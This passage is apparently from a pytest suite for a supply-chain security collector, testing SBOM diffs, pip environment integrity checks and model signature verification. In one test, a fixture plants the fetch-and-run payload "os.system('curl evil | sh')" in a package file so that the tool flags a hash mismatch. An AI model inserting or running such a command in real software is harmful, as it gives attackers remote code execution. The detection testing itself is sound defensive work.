        _assert_handled(map_hub_model_info(doc, value if isinstance(value, str) else "main"))
    sbom = _sbom("sbom_build_1041.cdx.json")
    sbom["components"][0]["version"] = value
    _assert_handled(diff_sboms(_sbom("sbom_build_1041.cdx.json"), sbom))


@pytest.mark.parametrize("name", ["sbom_build_1043_tampered.cdx.json", "hub_distilbert_base_uncased.json"])
def test_truncated_json_is_rejected(name: str) -> None:
    text = (FIXTURES / name).read_bytes()
    for cut in range(0, len(text) - 1, max(len(text) // 40, 1)):
        chunk = text[:cut]
        for result in (diff_sboms(chunk, chunk)[0], map_hub_model_info(chunk, "main"),
                       map_modelscan_report(chunk, "m")):
            assert isinstance(result, Rejected)


def test_wrong_types_missing_fields_and_huge_values() -> None:
    assert "must be a list" in verify_environment({"installed": "torch"}, None, "")[0].reason
    bad = verify_environment({"installed": [{"metadata": {"name": "torch"}}, {"metadata": {"name": ["x"],
                                                                                           "version": "1"}}]}, None, "")
    assert [r.source for r in bad] == ["pip-inspect:installed[0]", "pip-inspect:installed[1]"]
    assert "metadata.version is missing" in bad[0].reason
    assert isinstance(verify_environment({"installed": []}, None, b"not text"), list)  # type: ignore[arg-type]
    report = {"summary": {"scanned": {"total_scanned": 10**30}}, "issues": []}
    assert "out of range" in map_modelscan_report(report, "m").reason
    assert "severity" in map_modelscan_report({"issues": [{"severity": "APOCALYPTIC"}]}, "m").reason
    assert "not a ModelScan report" in map_modelscan_report({}, "m").reason
    assert "id is missing" in map_hub_model_info({"sha": "x"}, "main").reason
    assert "too long" in map_hub_model_info({"id": "a/b"}, "main", observed_at="9" * 100).reason
    huge = "x" * 10_000
    assert "characters" in map_hub_model_info({"id": huge}, "main").reason
    assert "not UTF-8" in map_modelscan_report(b'{"issues": "\xff"}', "m").reason
    assert "nests too deeply" in map_modelscan_report(b"[" * 100_000, "m").reason


# ---- `aisoc collect` replays of build leftovers ----------------------------------------------------------------


def test_collect_sbom_replay_diffs_successive_builds_with_configured_approvals(cli, tmp_path: Path) -> None:
    builds = tmp_path / "sboms"
    builds.mkdir()
    for number, name in enumerate(("sbom_build_1041.cdx.json", "sbom_build_1043_tampered.cdx.json")):
        shutil.copy(FIXTURES / name, builds / f"{number:03d}-{name}")
    config = tmp_path / "aisoc.yml"
    config.write_text(yaml.safe_dump({"data_dir": str(tmp_path / "state"), "collectors": {"build-sboms": {
        "type": "sbom", "path": str(builds), "options": {"approvals": {"someuser/helpful-llm@main": "CHG-7000"}}}}}))
    out = tmp_path / "events.ndjson"
    code, _, err = cli("collect", "build-sboms", "-c", config, "-o", out)  # type, path and options from the config
    assert code == 0, err
    by = {e["package.name"]: e for e in map(json.loads, out.read_text().splitlines())}
    assert by["torch"]["aisoc.supply_chain.sbom.change"] == "hash_changed"
    assert by["someuser/helpful-llm"]["aisoc.change.approved"] is True
    assert fired(list(by.values()))[SBOM_HASH] == {by["torch"]["event.id"]}
    (builds / "000-sbom_build_1041.cdx.json").unlink()
    code, _, err = cli("collect", "sbom", "--replay", builds, "-c", config, "-o", out)
    assert code == 0 and "a diff needs two builds' SBOMs" in err  # one SBOM: told why, dead-lettered


def test_collect_pip_environment_replay_finds_a_tampered_install(cli, venv: dict[str, Any], tmp_path: Path) -> None:
    build = tmp_path / "build"
    shutil.copytree(venv["site"], build / "site-packages", symlinks=True)
    (build / "pip-inspect.json").write_text(json.dumps(venv["inspect"]))
    (build / "requirements.lock").write_text(f"tinypkg==1.0.0 --hash=sha256:{venv['wheel_sha']}\n")
    (build / "site-packages" / "tinypkg" / "model_utils.py").write_text("import os\nos.system('curl evil | sh')\n")
    config = tmp_path / "aisoc.yml"
    config.write_text(yaml.safe_dump({"data_dir": str(tmp_path / "state"), "collectors": {"ci-env": {
        "type": "pip_environment", "path": str(build),
        "options": {"site_packages": "site-packages", "approvals": BOOTSTRAP, "host": "ci-7"}}}}))
    out = tmp_path / "events.ndjson"
    code, _, err = cli("collect", "ci-env", "-c", config, "-o", out)
    assert code == 0, err
    tiny = _by_name([json.loads(line) for line in out.read_text().splitlines()])["tinypkg"]
    assert tiny["aisoc.supply_chain.record.mismatched_paths"] == ["tinypkg/model_utils.py"]
    assert tiny["host.name"] == "ci-7" and fired([tiny]) == {HASH_MISMATCH: {tiny["event.id"]}}
    config.write_text(yaml.safe_dump({"collectors": {"ci-env": {"type": "pip_environment", "path": str(build),
                                                                "options": {"site_pakages": "x"}}}}))
    code, _, err = cli("collect", "ci-env", "-c", config)
    assert code == 2 and "collectors.ci-env.options.site_pakages" in err  # a misspelt option is named


def test_collect_model_signatures_replay_verifies_every_model(cli, tmp_path: Path, pki: dict[str, Path]) -> None:
    models = tmp_path / "models"
    signed = _model(models)
    _sign_key(signed, models / "fraud-detector.sig", pki["signer.key"])
    tampered = models / "churn"
    shutil.copytree(signed, tampered)
    _sign_key(tampered, models / "churn.sig", pki["signer.key"])
    (tampered / "model.safetensors").write_bytes(os.urandom(4096))
    shutil.copytree(signed, models / "unsigned")
    config = tmp_path / "aisoc.yml"
    config.write_text(yaml.safe_dump({"data_dir": str(tmp_path / "state"), "collectors": {"registry-models": {
        "type": "model_signatures", "path": str(models),
        "options": {"policy": {"public_keys": {"ml-pipeline": str(pki["signer.pub"])}}}}}}))
    out = tmp_path / "events.ndjson"
    code, _, err = cli("collect", "registry-models", "-c", config, "-o", out)
    assert code == 0, err
    by = {e["aisoc.model.name"]: e for e in map(json.loads, out.read_text().splitlines())}
    assert by["fraud-detector"]["file.code_signature.status"] == "verified"
    assert by["churn"]["file.code_signature.status"] == "digest mismatch"
    assert by["unsigned"]["file.code_signature.status"] == "no signature"
    assert fired(list(by.values())) == {SIGNATURE: {by["churn"]["event.id"], by["unsigned"]["event.id"]}}
